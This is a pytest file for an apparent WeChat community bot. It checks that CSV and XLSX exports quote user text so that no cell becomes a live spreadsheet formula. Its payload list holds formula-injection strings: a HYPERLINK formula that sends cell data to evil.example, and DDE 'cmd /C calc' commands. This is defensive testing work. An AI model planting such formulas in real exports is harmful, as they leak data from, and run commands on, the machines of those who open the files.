"""Formula injection: text from WeChat users (names, answers, reports) never becomes a live
spreadsheet formula in any CSV/XLSX the project writes."""
from __future__ import annotations

import argparse
import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.web.tables import Column, Table, to_csv, to_xlsx
from bot.web.testing import WebKit

# What a spreadsheet reads as the start of a formula (kept here, independent of the code under test).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SIGNUP = "通知 收集 议事日报名: 楼号 备注 截止 12-05 18:00\n本周六上午9点议事，欢迎报名"


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))  # not data_only: a formula would show as "=..."
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"live formula in {sheet.title}!{cell.coordinate}: {cell.value}"
                cells.append(cell.value)
    return cells


# ---------------------------------------------------------------- the exports
async def table_csv(h, tmp_path) -> list:  # noqa: ANN001
    table = Table("t", [Column("a", "A"), Column("b", "B")], [{"a": p, "b": p} for p in PAYLOADS], len(PAYLOADS))
    return csv_cells(to_csv(table, h.clock))


async def table_xlsx(h, tmp_path) -> list:  # noqa: ANN001
    table = Table("t", [Column("a", "A"), Column("b", "B", "number")], [{"a": p, "b": p} for p in PAYLOADS],
                  len(PAYLOADS))
    return xlsx_cells(to_xlsx(table, h.clock, "=title"))


async def _reports(h) -> None:  # noqa: ANN001
    for i, payload in enumerate(PAYLOADS):
        await h.say("阳光花园业主1群", f"{payload}{i}", f"{payload} {i + 3}号楼门口下水道堵了，积水很深走不了路")


async def dashboard_tickets(h, fmt: str) -> list:  # noqa: ANN001
    await _reports(h)
    async with WebKit(h) as w:
        await w.add_user("li", "secretary", compounds=["阳光花园"])
        await w.login("li")
        resp = await w.get(f"/dashboard/tickets?format={fmt}")
        assert resp.status == 200
        data = await resp.read()
    return csv_cells(data) if fmt == "csv" else xlsx_cells(data)


async def tickets_csv(h, tmp_path) -> list:  # noqa: ANN001
    return await dashboard_tickets(h, "csv")


async def tickets_xlsx(h, tmp_path) -> list:  # noqa: ANN001
    return await dashboard_tickets(h, "xlsx")


async def _collection(h) -> None:  # noqa: ANN001
    await h.dm("李书记", SIGNUP)
    await h.dm("李书记", "确认")
    await h.advance(minutes=1)
    for i, payload in enumerate(PAYLOADS):
        await h.say("阳光花园业主1群", payload, f"{payload} {i + 1}号楼 备注：{payload}")


async def collection_dashboard(h, tmp_path) -> list:  # noqa: ANN001
    await _collection(h)
    async with WebKit(h) as w:
        await w.add_user("li", "secretary", compounds=["阳光花园"], person="李书记")
        await w.login("li")
        resp = await w.get("/dashboard/notices/1/answers.xlsx")
        assert resp.status == 200, await resp.text()
        return xlsx_cells(await resp.read())


async def collection_cli(h, tmp_path) -> list:  # noqa: ANN001
    from schedules.cli import register_cli

    await _collection(h)
    parser = argparse.ArgumentParser()
    register_cli(parser.add_subparsers(dest="command"))
    out = tmp_path / "out.xlsx"
    args = parser.parse_args(["collection", "export", "1", "--out", str(out)])
    assert await args.func(args, h.bot) == 0
    return xlsx_cells(Path(out).read_bytes())


EXPORTS = [table_csv, table_xlsx, tickets_csv, tickets_xlsx, collection_dashboard, collection_cli]


@pytest.mark.parametrize("export", EXPORTS, ids=[e.__name__ for e in EXPORTS])
async def test_no_export_writes_a_cell_a_spreadsheet_would_run_as_a_formula(h, tmp_path, export):
    cells = [c for c in await export(h, tmp_path) if isinstance(c, str)]
    live = [c for c in cells if c.startswith(DANGEROUS)]
    assert not live, live
    # The text is kept (quoted), not dropped: at least the first payload is visibly there.
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells


# Files that write a CSV/XLSX nobody opens in a spreadsheet, with the reason (review each addition).
NOT_EXPORTS = {
    # A temporary 12345 CSV of generated sample orders, read straight back by the hotline importer:
    # quoting would put apostrophes into the imported orders.
    "bot/demo_history.py",
}


def test_every_csv_and_xlsx_writer_in_the_project_uses_the_one_cell_helper():
    root = Path(__file__).resolve().parents[1]
    writer = re.compile(r"csv\.(?:writer|DictWriter)\(|\bWorkbook\(|\.to_csv\(|xlsxwriter")
    offenders = []
    for path in list((root / "bot").rglob("*.py")) + list((root / "schedules").rglob("*.py")):
        name = path.relative_to(root).as_posix()
        text = path.read_text(encoding="utf-8")
        if writer.search(text) and "safe_row" not in text and "safe_cell" not in text and name not in NOT_EXPORTS:
            offenders.append(name)
    assert not offenders


def test_sheet_title_with_characters_excel_refuses_still_exports():
    from bot.spreadsheet import sheet_title

    assert sheet_title("物业费?[12/5]:*") == "物业费__12_5___"
    assert sheet_title("") == "Sheet" and len(sheet_title("长" * 40)) == 31
